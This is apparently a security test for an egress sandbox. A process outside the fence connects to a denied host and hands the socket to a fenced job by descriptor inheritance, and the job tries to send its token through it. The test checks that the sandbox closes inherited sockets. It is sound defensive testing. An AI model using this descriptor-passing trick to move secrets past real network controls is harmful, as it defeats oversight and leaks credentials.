"""A parent outside the fence connects a TCP socket to a denied host and hands it to the fenced command by fd inheritance; the job writes the token to it."""
from vlib import *  # noqa: F401,F403

POLICY = {"allow": [A4 + ":443"]}
AS = ("nobody", "root")
SINKS_OK = []
# no DENIED: the accomplice outside connects to the denied host itself (unfenced, as
# allowed); what must not get there is the job's token
# egressctl run closes inherited sockets and says so on the job span (an egress.*inherit*
# attribute: the name is the fix's)
RECORD = [("egress.job", {"egress.*inherit*|egress.*closed*": lambda v: bool(v)})]


def outside(token, st):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((D4, 443))  # unfenced: outside any job
    st["keep"] = s
    return {"fds": [s.fileno()], "args": [s.fileno()]}


def job(token, args):
    fd = int(args[0])
    attempt("fstat inherited fd %d" % fd, lambda: os.fstat(fd).st_mode)
    s = attempt("socket(fileno=%d)" % fd, socket.socket, fileno=fd)
    if s is not None:
        attempt("send on the inherited socket", s.send, payload(token, "inherited tcp"))
        attempt("recv echo", lambda: s.recv(100).decode(errors="replace"))


if __name__ == "__main__":
    main(globals())
